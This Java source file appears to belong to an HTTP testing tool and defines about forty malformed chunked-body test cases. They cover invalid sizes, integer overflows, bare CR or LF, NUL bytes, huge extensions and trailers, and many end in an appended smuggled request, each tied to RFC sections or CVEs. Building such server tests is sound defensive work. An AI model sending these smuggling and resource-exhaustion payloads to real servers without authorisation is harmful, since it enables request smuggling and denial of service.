package dev.penstock.attack;

import static dev.penstock.attack.Family.CHUNKS;
import static dev.penstock.attack.Requests.SMUGGLED;

import java.util.List;

/** The pieces of a chunked body. A body that turns out wrong midway is cut off: what the endpoint has seen is no whole request. */
final class ChunkAttacks {
    private static final String SIZE = "RFC 9112 7.1";
    private static final String EXTENSION = "RFC 9112 7.1.1";
    private static final String LINES = "RFC 9112 2.2";

    private ChunkAttacks() {}

    static List<Attack> all() {
        return List.of(
                size("size-0x", "0x5", "size 0x5"),
                size("size-plus", "+5", "a sign before the size"),
                size("size-minus", "-5", "a negative size"),
                size("size-space", " 5", "a space before the size"),
                size("size-inner-space", "0 5", "a space within the size"),
                size("size-underscore", "0_5", "an underscore within the size"),
                size("size-letters", "5g", "a letter that is no digit"),
                size("size-empty", "", "no size"),
                size("size-comma", "5,5", "two sizes"),
                size("size-quoted", "\"5\"", "a quoted size"),
                size("size-nul", "5\0", "NUL after the size").sources("CVE-2026-93566"),
                size("size-control", "5\u0001", "a control character after the size")
                        .sources("CVE-2026-93566"),
                size("size-vertical-tab", "5\u000b", "a vertical tab after the size"),
                size("size-8bit", "5\u00ff", "a byte above 127 after the size"),
                size("size-overflow-32", "100000005", "a size that overflows 32 bits")
                        .sources("CVE-2026-42580"),
                size("size-overflow-64", "10000000000000005", "a size that overflows 64 bits"),
                size("size-point", "5.0", "a size with a point"),
                attack("size-trailing-space", "a space after the size", SIZE, "5 \r\nhello\r\n0\r\n\r\n")
                        .orHarmless(),
                attack("size-long", "200 zeros before the size", SIZE, "0".repeat(200) + "5\r\nhello\r\n0\r\n\r\n")
                        .orHarmless(),
                size("extension-cr", "5;a\rb", "a bare CR in an extension").sources(EXTENSION),
                size("extension-nul", "5;a\0b", "NUL in an extension").sources(EXTENSION),
                attack(
                        "extension-lf",
                        "a bare LF in an extension",
                        EXTENSION + "; CVE-2025-58056",
                        "5;\nhello\r\n0\r\n\r\n" + SMUGGLED),
                attack(
                        "extension-lf-quoted",
                        "CRLF within a quoted extension",
                        EXTENSION + "; CVE-2026-33870",
                        "5;a=\"\r\nhello\"\r\n0\r\n\r\n" + SMUGGLED + "\"\r\nhello\r\n0\r\n\r\n"),
                attack(
                        "extension-endless",
                        "an extension of 1 MiB",
                        EXTENSION,
                        "5;" + "a".repeat(1 << 20) + "\r\nhello\r\n0\r\n\r\n"),
                attack(
                                "extension-many",
                                "a million bytes of extensions in small chunks",
                                EXTENSION,
                                ("1;" + "a".repeat(500) + "\r\nx\r\n").repeat(2_000) + "0\r\n\r\n")
                        .orHarmless(),
                attack("size-lf", "a size that ends with LF alone", LINES, "5\nhello\r\n0\r\n\r\n")
                        .orHarmless(),
                attack("size-cr", "a size that ends with CR alone", LINES, "5\rhello\r\n0\r\n\r\n"),
                attack("data-lf", "a chunk that ends with LF alone", SIZE, "5\r\nhello\n0\r\n\r\n")
                        .orHarmless(),
                attack("data-no-end", "a chunk without an end", SIZE, "5\r\nhello0\r\n\r\n" + SMUGGLED),
                attack("data-longer", "a chunk longer than announced", SIZE, "5\r\nhelloooo\r\n0\r\n\r\n" + SMUGGLED),
                attack("data-shorter", "a chunk shorter than announced", SIZE, "8\r\nhello\r\n0\r\n\r\n" + SMUGGLED),
                attack(
                        "last-letters",
                        "a last chunk of two zeros and a letter",
                        SIZE,
                        "5\r\nhello\r\n00z\r\n\r\n" + SMUGGLED),
                attack("last-no-line", "no empty line after the last chunk", SIZE, "5\r\nhello\r\n0\r\n" + SMUGGLED)
                        .orHarmless(),
                attack("trailer-no-colon", "a trailer without a colon", SIZE + ".2", "5\r\nhello\r\n0\r\nFoo\r\n\r\n"),
                attack(
                        "trailer-space",
                        "a trailer with a space before the colon",
                        SIZE + ".2",
                        "5\r\nhello\r\n0\r\nX-A : 1\r\n\r\n"),
                attack("trailer-nul", "NUL in a trailer", SIZE + ".2", "5\r\nhello\r\n0\r\nX-A: a\0b\r\n\r\n"),
                attack("trailer-folded", "a folded trailer", SIZE + ".2", "5\r\nhello\r\n0\r\nX-A: a\r\n b\r\n\r\n"),
                attack("trailer-lf", "a trailer that ends with LF alone", LINES, "5\r\nhello\r\n0\r\nX-A: a\n\r\n")
                        .orHarmless(),
                attack(
                                "trailer-length",
                                "Content-Length in a trailer",
                                "RFC 9110 6.5.1",
                                "5\r\nhello\r\n0\r\nContent-Length: 100\r\n\r\n")
                        .orHarmless(),
                attack(
                                "trailer-host",
                                "Host in a trailer",
                                "RFC 9110 6.5.1",
                                "5\r\nhello\r\n0\r\nHost: other.test\r\n\r\n")
                        .orHarmless(),
                attack(
                        "trailer-endless",
                        "20,000 trailers",
                        "RFC 9112 7.1.2",
                        "5\r\nhello\r\n0\r\n" + "X-A: 1\r\n".repeat(20_000) + "\r\n"));
    }

    private static Attack size(String id, String size, String title) {
        return attack(id, title, SIZE, size + "\r\nhello\r\n0\r\n\r\n" + SMUGGLED);
    }

    private static Attack attack(String id, String title, String source, String body) {
        return Attack.byClient(CHUNKS, "chunk-" + id, title, source, Requests.chunked(body));
    }
}
